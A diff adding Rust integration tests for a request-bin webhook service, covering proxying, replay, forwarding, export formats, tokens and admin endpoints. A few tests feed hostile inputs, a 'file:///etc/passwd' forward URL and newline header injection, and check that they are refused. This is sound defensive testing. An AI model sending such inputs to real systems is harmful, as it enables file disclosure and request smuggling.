+        let deliveries: Vec<Value> = server.get(&format!("{}/request/{}/deliveries", bin_path, requests[0].request_id)).await.json();
+        assert_eq!(deliveries.len(), 1);
+        assert_eq!(deliveries[0]["kind"], "proxy");
+        assert_eq!(deliveries[0]["url"], format!("{}/orders?id=1", upstream_url));
+        assert_eq!(deliveries[0]["response"]["body"], "upstream saw order");
+
+        // An unreachable upstream is a bad gateway, but the capture is kept
+        let closed = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap();
+        server.put(&proxy_path).json(&serde_json::json!({ "upstream": format!("http://{}", closed) })).await.assert_status_ok();
+        server.post(&bin_path).text("lost").await.assert_status(StatusCode::BAD_GATEWAY);
+        server.delete(&proxy_path).await.assert_status_ok();
+        server.get(&proxy_path).await.assert_status_not_found();
+        server.post(&bin_path).text("local").await.assert_status_ok();
+        let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+        assert_eq!(requests.len(), 3);
+    }
+}
+
+#[tokio::test]
+async fn test_response_sequence() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").await.json();
+        let bin_path = format!("/bin/{}", bin.bin_id);
+        let sequence_path = format!("/bin/{}/response/sequence", bin.bin_id);
+        server.get(&sequence_path).await.assert_status(StatusCode::NOT_FOUND);
+        server
+            .put(&sequence_path)
+            .json(&serde_json::json!({ "mode": "once", "responses": [] }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        // Sequences win over rules until they are used up
+        server
+            .post(&format!("/bin/{}/rules", bin.bin_id))
+            .json(&serde_json::json!({ "response": { "status": 418 } }))
+            .await
+            .assert_status(StatusCode::CREATED);
+        server
+            .put(&sequence_path)
+            .json(&serde_json::json!({
+                "mode": "once",
+                "responses": [{ "status": 500, "body": "boom" }, { "status": 500 }, { "status": 200, "body": "ok" }]
+            }))
+            .await
+            .assert_status_ok();
+
+        let response = server.post(&bin_path).text("1").await;
+        response.assert_status(StatusCode::INTERNAL_SERVER_ERROR);
+        assert_eq!(response.text(), "boom");
+        server.post(&bin_path).text("2").await.assert_status(StatusCode::INTERNAL_SERVER_ERROR);
+        server.post(&bin_path).text("3").await.assert_status_ok();
+        server.post(&bin_path).text("4").await.assert_status(StatusCode::IM_A_TEAPOT);
+        let sequence: ResponseSequence = server.get(&sequence_path).await.json();
+        assert_eq!(sequence.position, 3);
+
+        server.delete(&sequence_path).await.assert_status_ok();
+        server.get(&sequence_path).await.assert_status(StatusCode::NOT_FOUND);
+    }
+}
+
+#[tokio::test]
+async fn test_rotating_sequence_under_concurrency() {
+    let server = setup_test_app().await;
+    let bin: BinResponse = server.post("/create").await.json();
+    let bin_path = format!("/bin/{}", bin.bin_id);
+    server
+        .put(&format!("/bin/{}/response/sequence", bin.bin_id))
+        .json(&serde_json::json!({
+            "mode": "rotate",
+            "responses": [{ "status": 200 }, { "status": 201 }, { "status": 202 }, { "status": 203 }]
+        }))
+        .await
+        .assert_status_ok();
+
+    let captures = (0..20).map(|i| server.post(&bin_path).text(format!("burst {}", i)).into_future());
+    let mut counts = std::collections::HashMap::new();
+    for response in futures::future::join_all(captures).await {
+        *counts.entry(response.status_code().as_u16()).or_insert(0) += 1;
+    }
+    assert_eq!(counts, [(200, 5), (201, 5), (202, 5), (203, 5)].into_iter().collect());
+}
+
+#[tokio::test]
+async fn test_bin_metadata() {
+    let server = setup_test_app().await;
+
+    let response = server
+        .post("/create")
+        .json(&serde_json::json!({ "name": " Stripe staging ", "tags": ["stripe", "staging", "stripe"] }))
+        .await;
+    response.assert_status_ok();
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+
+    let info: BinInfo = server.get(&format!("/bin/{}/meta", bin_id)).await.json();
+    assert_eq!(info.name.as_deref(), Some("Stripe staging"));
+    assert_eq!(info.description, None);
+    assert_eq!(info.tags, vec!["stripe", "staging"]);
+
+    // Only the fields sent are changed; an empty string clears
+    let response = server
+        .patch(&format!("/bin/{}/meta", bin_id))
+        .json(&serde_json::json!({ "description": "Payment webhooks", "name": "" }))
+        .await;
+    response.assert_status_ok();
+    let info: BinInfo = response.json();
+    assert_eq!(info.name, None);
+    assert_eq!(info.description.as_deref(), Some("Payment webhooks"));
+    assert_eq!(info.tags, vec!["stripe", "staging"]);
+
+    server
+        .patch(&format!("/bin/{}/meta", bin_id))
+        .json(&serde_json::json!({ "name": "x".repeat(101) }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+
+    // GET and PATCH on the bin itself are still captured
+    server.get(&format!("/bin/{}", bin_id)).await.assert_status_ok();
+    server.patch(&format!("/bin/{}", bin_id)).text("captured").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    assert_eq!(requests.len(), 2);
+}
+
+#[tokio::test]
+async fn test_bins_are_listed_for_their_creator() {
+    let server = setup_test_app().await;
+
+    let first: BinResponse = server.post("/create").await.json();
+    let creator_token = first.creator_token.expect("a new creator token is issued");
+    let second: BinResponse = server
+        .post("/create")
+        .add_header("x-creator-token", creator_token.as_str())
+        .json(&serde_json::json!({ "name": "second", "private": true }))
+        .await
+        .json();
+    assert!(second.creator_token.is_none());
+    let stranger: BinResponse = server.post("/create").await.json();
+    assert_ne!(stranger.creator_token.as_deref(), Some(creator_token.as_str()));
+    server.post(&format!("/bin/{}", first.bin_id)).text("hello").await.assert_status_ok();
+
+    let response = server.get("/my/bins").add_header("x-creator-token", creator_token.as_str()).await;
+    response.assert_status_ok();
+    let bins: Vec<Value> = response.json();
+    let ids: Vec<&str> = bins.iter().map(|bin| bin["bin_id"].as_str().unwrap()).collect();
+    assert_eq!(ids, [first.bin_id.as_str(), second.bin_id.as_str()]);
+    assert_eq!(bins[0]["request_count"], 1);
+    assert!(bins[0]["expires_at"].is_string());
+    assert_eq!(bins[1]["name"], "second");
+    assert_eq!(bins[1]["private"], true);
+
+    server.get("/my/bins").await.assert_status(StatusCode::UNAUTHORIZED);
+    let unknown: Vec<Value> = server.get("/my/bins").add_header("x-creator-token", "nobody").await.json();
+    assert!(unknown.is_empty());
+}
+
+#[tokio::test]
+async fn test_bin_creation_is_capped_per_client() {
+    let mut config = RustbinConfig::default();
+    config.limits.max_bins_per_ip = 3;
+    config.limits.max_bins_per_creator = 2;
+    let server = setup_test_app_with_config(config).await;
+
+    let first: BinResponse = server.post("/create").await.json();
+    let creator_token = first.creator_token.unwrap();
+    server.post("/create").add_header("x-creator-token", creator_token.as_str()).await.assert_status_ok();
+    let response = server.post("/create").add_header("x-creator-token", creator_token.as_str()).await;
+    response.assert_status(StatusCode::TOO_MANY_REQUESTS);
+    assert_eq!(response.json::<ProblemDetails>().code, "bin_quota_exceeded");
+
+    // A fresh token still counts against the address
+    server.post("/create").await.assert_status_ok();
+    server.post("/create").await.assert_status(StatusCode::TOO_MANY_REQUESTS);
+
+    // Deleted bins free their slot
+    server.delete(&format!("/delete/{}", first.bin_id)).await.assert_status_ok();
+    server.post("/create").await.assert_status_ok();
+}
+
+#[tokio::test]
+async fn test_private_bin_requires_token() {
+    let server = setup_test_app().await;
+
+    // Public bins don't get a token
+    let public: BinResponse = server.post("/create").await.json();
+    assert!(public.token.is_none());
+
+    let response = server.post("/create").json(&serde_json::json!({ "private": true })).await;
+    response.assert_status_ok();
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+    let token = bin_response.token.expect("private bins get a token");
+
+    // Capturing stays open
+    server.post(&format!("/bin/{}", bin_id)).text("secret payload").await.assert_status_ok();
+
+    // Reading and managing needs the token
+    server.get(&format!("/bin/{}/inspect", bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .get(&format!("/bin/{}/inspect", bin_id))
+        .add_header("authorization", "Bearer wrong")
+        .await
+        .assert_status(StatusCode::UNAUTHORIZED);
+    server.get(&format!("/bin/{}/ws", bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.delete(&format!("/bin/{}/clear", bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.delete(&format!("/delete/{}", bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+
+    let response = server
+        .get(&format!("/bin/{}/inspect", bin_id))
+        .add_header("authorization", format!("Bearer {}", token))
+        .await;
+    response.assert_status_ok();
+    let requests: Vec<LoggedRequest> = response.json();
+    assert_eq!(requests.len(), 1);
+
+    // Deleting a single request is guarded by the token of its bin
+    let request_id = requests[0].request_id;
+    server.delete(&format!("/request/{}", request_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .delete(&format!("/bin/{}/request/{}", bin_id, request_id))
+        .await
+        .assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .delete(&format!("/bin/{}/request/{}?token={}", bin_id, request_id, token))
+        .await
+        .assert_status_ok();
+
+    let info: BinInfo = server.get(&format!("/bin/{}/meta?token={}", bin_id, token)).await.json();
+    assert!(info.private);
+    server.delete(&format!("/delete/{}?token={}", bin_id, token)).await.assert_status_ok();
+}
+
+#[tokio::test]
+async fn test_api_key_guards_management_endpoints() {
+    let mut config = RustbinConfig::default();
+    config.auth.api_keys = vec!["key-1".to_string(), "key-2".to_string()];
+    config.admin.token = Some("admin-secret".to_string());
+    let server = setup_test_app_with_config(config).await;
+
+    server.post("/create").await.assert_status(StatusCode::UNAUTHORIZED);
+    server.post("/create").add_header("x-api-key", "nope").await.assert_status(StatusCode::UNAUTHORIZED);
+
+    let response = server.post("/create").add_header("x-api-key", "key-2").await;
+    response.assert_status_ok();
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+
+    // Capturing and inspecting stay open
+    server.post(&format!("/bin/{}", bin_id)).text("hello").await.assert_status_ok();
+    server.get(&format!("/bin/{}/inspect", bin_id)).await.assert_status_ok();
+
+    // Admin endpoints need both the API key and the admin token
+    server
+        .get("/admin/search?q=hello")
+        .add_header("authorization", "Bearer admin-secret")
+        .await
+        .assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .get("/admin/search?q=hello")
+        .add_header("authorization", "Bearer admin-secret")
+        .add_header("x-api-key", "key-1")
+        .await
+        .assert_status_ok();
+
+    server.delete(&format!("/delete/{}", bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+    server
+        .delete(&format!("/delete/{}", bin_id))
+        .add_header("x-api-key", "key-1")
+        .await
+        .assert_status_ok();
+}
+
+#[tokio::test]
+async fn test_admin_bin_management() {
+    let mut config = RustbinConfig::default();
+    config.admin.token = Some("admin-secret".to_string());
+    let server = setup_test_app_with_config(config).await;
+
+    let mut bin_ids = Vec::new();
+    for body in [serde_json::json!({ "name": "first" }), serde_json::json!({ "private": true })] {
+        let bin_response: BinResponse = server.post("/create").json(&body).await.json();
+        bin_ids.push(bin_response.bin_id);
+    }
+    for _ in 0..3 {
+        server.post(&format!("/bin/{}", bin_ids[0])).text("hi").await.assert_status_ok();
+    }
+
+    server.get("/admin/bins").await.assert_status(StatusCode::UNAUTHORIZED);
+
+    let response = server
+        .get("/admin/bins")
+        .add_header("authorization", "Bearer admin-secret")
+        .await;
+    response.assert_status_ok();
+    assert_eq!(response.header("x-total-count"), "2");
+    let bins: Vec<AdminBinSummary> = response.json();
+    let first = bins.iter().find(|b| b.bin_id == bin_ids[0]).unwrap();
+    assert_eq!(first.request_count, 3);
+    assert_eq!(first.name.as_deref(), Some("first"));
+    assert!(bins.iter().find(|b| b.bin_id == bin_ids[1]).unwrap().private);
+
+    let response = server
+        .get("/admin/bins?limit=1")
+        .add_header("authorization", "Bearer admin-secret")
+        .await;
+    let bins: Vec<AdminBinSummary> = response.json();
+    assert_eq!(bins.len(), 1);
+
+    let stats: AdminStats = server
+        .get("/admin/stats")
+        .add_header("authorization", "Bearer admin-secret")
+        .await
+        .json();
+    assert_eq!(stats.bin_count, 2);
+    assert_eq!(stats.private_bin_count, 1);
+    assert_eq!(stats.request_count, 3);
+    assert_eq!(stats.requests_last_24h, 3);
+    assert!(stats.database_size_bytes > 0);
+
+    let storage: AdminStorage = server
+        .get("/admin/storage?top=1")
+        .add_header("authorization", "Bearer admin-secret")
+        .await
+        .json();
+    assert_eq!(storage.database_size_bytes, storage.page_size * storage.page_count);
+    assert_eq!(storage.bins.len(), 1);
+    assert_eq!((storage.bins[0].bin_id.as_str(), storage.bins[0].request_count), (bin_ids[0].as_str(), 3));
+    assert!(storage.bins[0].bytes > 0);
+    assert!(!storage.blobs.enabled);
+
+    // Admins can delete any bin, private ones included
+    server
+        .delete(&format!("/admin/bins/{}", bin_ids[1]))
+        .add_header("authorization", "Bearer admin-secret")
+        .await
+        .assert_status_ok();
+    server
+        .delete(&format!("/admin/bins/{}", bin_ids[1]))
+        .add_header("authorization", "Bearer admin-secret")
+        .await
+        .assert_status(StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn test_export_as_curl() {
+    let server = setup_test_app().await;
+
+    let bin_response: BinResponse = server.post("/create").await.json();
+    let bin_id = bin_response.bin_id;
+
+    server
+        .post(&format!("/bin/{}/hooks/github?delivery=1", bin_id))
+        .add_header("x-github-event", "push")
+        .json(&serde_json::json!({ "ref": "main" }))
+        .await
+        .assert_status_ok();
+    server.get(&format!("/bin/{}", bin_id)).await.assert_status_ok();
+
+    let response = server
+        .get(&format!("/bin/{}/export?format=curl&target=http://localhost:8080/", bin_id))
+        .await;
+    response.assert_status_ok();
+    let script = response.text();
+    let commands: Vec<&str> = script.trim_end().split("\n\n").collect();
+    assert_eq!(commands.len(), 2);
+    assert!(commands[0].starts_with("curl -X 'POST' 'http://localhost:8080/hooks/github?delivery=1'"));
+    assert!(commands[0].contains("-H 'x-github-event: push'"));
+    assert!(commands[0].contains(r#"--data-binary '{"ref":"main"}'"#));
+    assert!(commands[1].starts_with("curl -X 'GET' 'http://localhost:8080/'"));
+
+    server
+        .get(&format!("/bin/{}/export?format=har", bin_id))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+
+    // Single request, defaulting to the bin URL it was sent to
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    let response = server
+        .get(&format!("/bin/{}/request/{}/curl", bin_id, requests[0].request_id))
+        .await;
+    response.assert_status_ok();
+    assert!(response.text().contains(&format!("/bin/{}/hooks/github?delivery=1'", bin_id)));
+}
+
+#[tokio::test]
+async fn test_request_snippet() {
+    let server = setup_test_app().await;
+    let bin: BinResponse = server.post("/create").await.json();
+    server
+        .post(&format!("/bin/{}/hooks/stripe", bin.bin_id))
+        .add_header("x-event", "charge")
+        .text("{\"id\":1}")
+        .await
+        .assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    let snippet_path = format!("/bin/{}/request/{}/snippet", bin.bin_id, requests[0].request_id);
+
+    let response = server.get(&format!("{}?lang=python&target=http://localhost:8080", snippet_path)).await;
+    response.assert_status_ok();
+    let code = response.text();
+    assert!(code.contains("\"http://localhost:8080/hooks/stripe\""));
+    assert!(code.contains("\"x-event\": \"charge\""));
+    assert!(code.contains(r#"data="{\"id\":1}".encode()"#));
+
+    let go = server.get(&format!("{}?lang=go", snippet_path)).await.text();
+    assert!(go.contains(&format!("/bin/{}/hooks/stripe\"", bin.bin_id)));
+
+    for query in ["", "?lang=ruby"] {
+        let response = server.get(&format!("{}{}", snippet_path, query)).await;
+        response.assert_status(StatusCode::BAD_REQUEST);
+        assert!(response.text().contains("python, node, rust, go"));
+    }
+    server
+        .get(&format!("/bin/{}/request/{}/snippet?lang=node", bin.bin_id, Uuid::new_v4()))
+        .await
+        .assert_status(StatusCode::NOT_FOUND);
+}
+
+/// A local server that describes each request it receives
+async fn spawn_echo_target() -> SocketAddr {
+    async fn echo(method: axum::http::Method, uri: axum::http::Uri, headers: axum::http::HeaderMap, body: String) -> impl axum::response::IntoResponse {
+        let event = headers.get("x-github-event").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
+        (StatusCode::CREATED, [("x-upstream", "echo")], format!("{} {} {} {}", method, uri, event, body))
+    }
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, axum::Router::new().fallback(echo)).await.unwrap();
+    });
+    addr
+}
+
+#[tokio::test]
+async fn test_replay_request_to_target() {
+    let server = setup_test_app_with_config(loopback_targets()).await;
+    let target = spawn_echo_target().await;
+
+    let bin: BinResponse = server.post("/create").await.json();
+    server
+        .post(&format!("/bin/{}/hooks/github?delivery=1", bin.bin_id))
+        .add_header("x-github-event", "push")
+        .text("payload")
+        .await
+        .assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    let replay_path = format!("/bin/{}/request/{}/replay", bin.bin_id, requests[0].request_id);
+
+    let response = server
+        .post(&replay_path)
+        .json(&serde_json::json!({ "target": format!("http://{}/relay", target) }))
+        .await;
+    response.assert_status_ok();
+    let upstream: ReplayResponse = response.json();
+    assert_eq!(upstream.status, 201);
+    assert_eq!(upstream.body, "POST /relay/hooks/github?delivery=1 push payload");
+    assert!(upstream.headers.contains(&("x-upstream".to_string(), "echo".to_string())));
+
+    server
+        .post(&replay_path)
+        .json(&serde_json::json!({ "target": "ftp://example.com" }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+    server
+        .post(&replay_path)
+        .json(&serde_json::json!({ "target": "http://127.0.0.1:9" }))
+        .await
+        .assert_status(StatusCode::BAD_GATEWAY);
+
+    // Replays that reached (or tried to reach) a target are recorded with the request
+    let deliveries: Vec<Value> = server
+        .get(&format!("/bin/{}/request/{}/deliveries", bin.bin_id, requests[0].request_id))
+        .await
+        .json();
+    assert_eq!(deliveries.len(), 2);
+    assert_eq!(deliveries[0]["kind"], "replay");
+    assert!(deliveries[0].get("forward_id").is_none());
+    assert_eq!(deliveries[0]["url"], format!("http://{}/relay/hooks/github?delivery=1", target));
+    assert_eq!(deliveries[0]["status"], "delivered");
+    assert_eq!(deliveries[0]["response"]["body"], "POST /relay/hooks/github?delivery=1 push payload");
+    assert_eq!(deliveries[1]["status"], "failed");
+    assert!(deliveries[1]["response"].is_null());
+    assert!(deliveries[1]["error"].is_string());
+    server
+        .post(&format!("/bin/{}/request/{}/replay", bin.bin_id, Uuid::new_v4()))
+        .json(&serde_json::json!({ "target": format!("http://{}", target) }))
+        .await
+        .assert_status(StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn test_replay_overrides() {
+    let server = setup_test_app_with_config(loopback_targets()).await;
+    let target = spawn_echo_target().await;
+
+    let bin: BinResponse = server.post("/create").await.json();
+    server
+        .post(&format!("/bin/{}/hooks/github", bin.bin_id))
+        .add_header("x-github-event", "push")
+        .text("payload")
+        .await
+        .assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    let replay_path = format!("/bin/{}/request/{}/replay", bin.bin_id, requests[0].request_id);
+    let replay = |overrides: Value| {
+        let mut body = overrides;
+        body["target"] = Value::String(format!("http://{}", target));
+        server.post(&replay_path).json(&body)
+    };
+
+    let upstream: ReplayResponse = replay(serde_json::json!({ "method": "PUT" })).await.json();
+    assert_eq!(upstream.body, "PUT /hooks/github push payload");
+    let upstream: ReplayResponse = replay(serde_json::json!({ "body": "tweaked" })).await.json();
+    assert_eq!(upstream.body, "POST /hooks/github push tweaked");
+    let upstream: ReplayResponse = replay(serde_json::json!({ "headers": { "set": { "X-GitHub-Event": "ping" } } })).await.json();
+    assert_eq!(upstream.body, "POST /hooks/github ping payload");
+    let upstream: ReplayResponse = replay(serde_json::json!({ "headers": { "remove": ["X-GITHUB-EVENT"] } })).await.json();
+    assert_eq!(upstream.body, "POST /hooks/github  payload");
+
+    // The stored request is left as it was
+    let upstream: ReplayResponse = replay(serde_json::json!({})).await.json();
+    assert_eq!(upstream.body, "POST /hooks/github push payload");
+
+    replay(serde_json::json!({ "method": "GET /" })).await.assert_status(StatusCode::BAD_REQUEST);
+    replay(serde_json::json!({ "headers": { "set": { "bad header": "x" } } }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+    replay(serde_json::json!({ "headers": { "set": { "x-ok": "line\nbreak" } } }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test]
+async fn test_replay_can_be_disabled() {
+    let mut config = RustbinConfig::default();
+    config.replay.enabled = false;
+    let server = setup_test_app_with_config(config).await;
+
+    let bin: BinResponse = server.post("/create").await.json();
+    server.post(&format!("/bin/{}", bin.bin_id)).text("payload").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+
+    server
+        .post(&format!("/bin/{}/request/{}/replay", bin.bin_id, requests[0].request_id))
+        .json(&serde_json::json!({ "target": "http://127.0.0.1:9" }))
+        .await
+        .assert_status(StatusCode::FORBIDDEN);
+}
+
+/// Poll a bin's forwards until every one has a delivery recorded
+async fn wait_for_deliveries(server: &TestServer, bin_id: &str) -> Vec<Forward> {
+    for _ in 0..50 {
+        let forwards: Vec<Forward> = server.get(&format!("/bin/{}/forwards", bin_id)).await.json();
+        if forwards.iter().all(|forward| forward.last_delivery.is_some()) {
+            return forwards;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    panic!("forwards were not delivered in time");
+}
+
+#[tokio::test]
+async fn test_forwards_mirror_captured_requests() {
+    let server = setup_test_app_with_config(loopback_targets()).await;
+    let target = spawn_echo_target().await;
+    let bin: BinResponse = server.post("/create").await.json();
+    let forwards_path = format!("/bin/{}/forwards", bin.bin_id);
+
+    server
+        .post(&forwards_path)
+        .json(&serde_json::json!({ "url": "file:///etc/passwd" }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+    let response = server
+        .post(&forwards_path)
+        .json(&serde_json::json!({ "url": format!("http://{}/relay", target) }))
+        .await;
+    response.assert_status(StatusCode::CREATED);
+    let delivered: Forward = response.json();
+    assert!(delivered.enabled);
+    assert!(delivered.last_delivery.is_none());
+    let unreachable: Forward = server
+        .post(&forwards_path)
+        .json(&serde_json::json!({ "url": "http://127.0.0.1:9" }))
+        .await
+        .json();
+
+    server.post(&format!("/bin/{}/orders", bin.bin_id)).text("payload").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+
+    let forwards = wait_for_deliveries(&server, &bin.bin_id).await;
+    assert_eq!(forwards.len(), 2);
+    assert_eq!(forwards[0].forward_id, delivered.forward_id);
+    let delivery = forwards[0].last_delivery.as_ref().unwrap();
+    assert_eq!(delivery.request_id, requests[0].request_id);
+    assert_eq!(delivery.status, "delivered");
+    assert_eq!(delivery.status_code, Some(201));
+    let failure = forwards[1].last_delivery.as_ref().unwrap();
+    assert_eq!(failure.status, "pending");
+    assert_eq!(failure.status_code, None);
+    assert_eq!(failure.attempts, 1);
+    assert!(failure.error.is_some());
+    assert!(failure.next_attempt_at.is_some());
+
+    // Disabled forwards keep their history but receive nothing new
+    let response = server
+        .patch(&format!("{}/{}", forwards_path, delivered.forward_id))
+        .json(&serde_json::json!({ "enabled": false }))
+        .await;
+    response.assert_status_ok();
+    assert!(!response.json::<Forward>().enabled);
+    server.post(&format!("/bin/{}", bin.bin_id)).text("again").await.assert_status_ok();
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    let forwards: Vec<Forward> = server.get(&forwards_path).await.json();
+    assert_eq!(forwards[0].last_delivery.as_ref().unwrap().request_id, requests[0].request_id);
+
+    server.delete(&format!("{}/{}", forwards_path, unreachable.forward_id)).await.assert_status_ok();
+    server
+        .delete(&format!("{}/{}", forwards_path, unreachable.forward_id))
+        .await
+        .assert_status(StatusCode::NOT_FOUND);
+    let forwards: Vec<Forward> = server.get(&forwards_path).await.json();
+    assert_eq!(forwards.len(), 1);
+}
+
+#[tokio::test]
+async fn test_forward_responses_are_kept_per_request() {
+    let server = setup_test_app_with_config(loopback_targets()).await;
+    let target = spawn_echo_target().await;
+    let bin: BinResponse = server.post("/create").await.json();
+    for upstream in ["old", "new"] {
+        server
+            .post(&format!("/bin/{}/forwards", bin.bin_id))
+            .json(&serde_json::json!({ "url": format!("http://{}/{}", target, upstream) }))
+            .await
+            .assert_status(StatusCode::CREATED);
+    }
+
+    server.post(&format!("/bin/{}/orders", bin.bin_id)).text("payload").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    wait_for_deliveries(&server, &bin.bin_id).await;
+
+    let deliveries_path = format!("/bin/{}/request/{}/deliveries", bin.bin_id, requests[0].request_id);
+    let deliveries: Vec<Value> = server.get(&deliveries_path).await.json();
+    assert_eq!(deliveries.len(), 2);
+    for (delivery, upstream) in deliveries.iter().zip(["old", "new"]) {
+        assert_eq!(delivery["kind"], "forward");
+        assert_eq!(delivery["url"], format!("http://{}/{}", target, upstream));
+        assert_eq!(delivery["status"], "delivered");
+        assert!(delivery["latency_ms"].is_u64());
+        let response = &delivery["response"];
+        assert_eq!(response["status"], 201);
+        assert_eq!(response["body"], format!("POST /{}/orders  payload", upstream));
+        assert!(response["headers"].as_array().unwrap().contains(&serde_json::json!(["x-upstream", "echo"])));
+    }
+
+    let other = format!("/bin/{}/request/{}/deliveries", bin.bin_id, Uuid::new_v4());
+    assert!(server.get(&other).await.json::<Vec<Value>>().is_empty());
+}
+
+/// Answers 503 to the first `failures` requests and 200 afterwards
+async fn spawn_flaky_target(failures: usize) -> SocketAddr {
+    let seen = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let handler = move || {
+        let seen = seen.clone();
+        async move {
+            if seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst) < failures {
+                StatusCode::SERVICE_UNAVAILABLE
+            } else {
+                StatusCode::OK
+            }
+        }
+    };
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, axum::Router::new().fallback(handler)).await.unwrap();
+    });
+    addr
+}
+
+#[tokio::test]
+async fn test_failed_forwards_are_retried() {
+    let mut config = loopback_targets();
+    config.forwarding.max_attempts = 3;
+    config.forwarding.retry_backoff_ms = 0;
+    let pool = SqlitePoolOptions::new().max_connections(1).connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let state = AppState::from_pool(pool, &config);
+    let server = test_server(state.clone());
+    let target = spawn_flaky_target(2).await;
+
+    let bin: BinResponse = server.post("/create").await.json();
+    let forwards_path = format!("/bin/{}/forwards", bin.bin_id);
+    let flaky: Forward = server
+        .post(&forwards_path)
+        .json(&serde_json::json!({ "url": format!("http://{}", target) }))
+        .await
+        .json();
+    let unreachable: Forward = server
+        .post(&forwards_path)
+        .json(&serde_json::json!({ "url": "http://127.0.0.1:9" }))
+        .await
+        .json();
+    server.post(&format!("/bin/{}", bin.bin_id)).text("payload").await.assert_status_ok();
+
+    let forwards = wait_for_deliveries(&server, &bin.bin_id).await;
+    assert!(forwards.iter().all(|forward| forward.last_delivery.as_ref().unwrap().status == "pending"));
+    assert_eq!(state.forwarder.retry_due().await, 2);
+    assert_eq!(state.forwarder.retry_due().await, 2);
+    assert_eq!(state.forwarder.retry_due().await, 0);
+
+    let deliveries: Vec<ForwardDelivery> = server
+        .get(&format!("{}/{}/deliveries", forwards_path, flaky.forward_id))
+        .await
+        .json();
+    assert_eq!(deliveries.len(), 1);
+    assert_eq!(deliveries[0].status, "delivered");
+    assert_eq!(deliveries[0].attempts, 3);
+    assert_eq!(deliveries[0].status_code, Some(200));
+    assert_eq!(deliveries[0].next_attempt_at, None);
+
+    let deliveries: Vec<ForwardDelivery> = server
+        .get(&format!("{}/{}/deliveries", forwards_path, unreachable.forward_id))
+        .await
+        .json();
+    assert_eq!(deliveries[0].status, "failed");
+    assert_eq!(deliveries[0].attempts, 3);
+    assert!(deliveries[0].error.is_some());
+
+    server
+        .get(&format!("{}/{}/deliveries", forwards_path, Uuid::new_v4()))
+        .await
+        .assert_status(StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn test_forwards_can_be_disabled() {
+    let mut config = RustbinConfig::default();
+    config.replay.enabled = false;
+    let server = setup_test_app_with_config(config).await;
+
+    let bin: BinResponse = server.post("/create").await.json();
+    server
+        .post(&format!("/bin/{}/forwards", bin.bin_id))
+        .json(&serde_json::json!({ "url": "http://127.0.0.1:9" }))
+        .await
+        .assert_status(StatusCode::FORBIDDEN);
+}
+
+#[tokio::test]
+async fn test_export_as_postman_collection() {
+    let server = setup_test_app().await;
+
+    let bin_response: BinResponse = server.post("/create").json(&serde_json::json!({ "name": "Orders" })).await.json();
+    let bin_id = bin_response.bin_id;
+
+    server
+        .post(&format!("/bin/{}/orders?id=7", bin_id))
+        .add_header("x-signature", "abc")
+        .json(&serde_json::json!({ "order_id": 7 }))
+        .await
+        .assert_status_ok();
+
+    let response = server
+        .get(&format!("/bin/{}/export?format=postman&target=http://localhost:8080", bin_id))
+        .await;
+    response.assert_status_ok();
+    let collection: Value = response.json();
+    assert_eq!(collection["info"]["name"], "Orders");
+    assert_eq!(collection["info"]["schema"], "https://schema.getpostman.com/json/collection/v2.1.0/collection.json");
+
+    let items = collection["item"].as_array().unwrap();
+    assert_eq!(items.len(), 1);
+    let request = &items[0]["request"];
+    assert_eq!(request["method"], "POST");
+    assert_eq!(request["url"], "http://localhost:8080/orders?id=7");
+    assert_eq!(request["body"]["mode"], "raw");
+    assert_eq!(request["body"]["raw"], r#"{"order_id":7}"#);
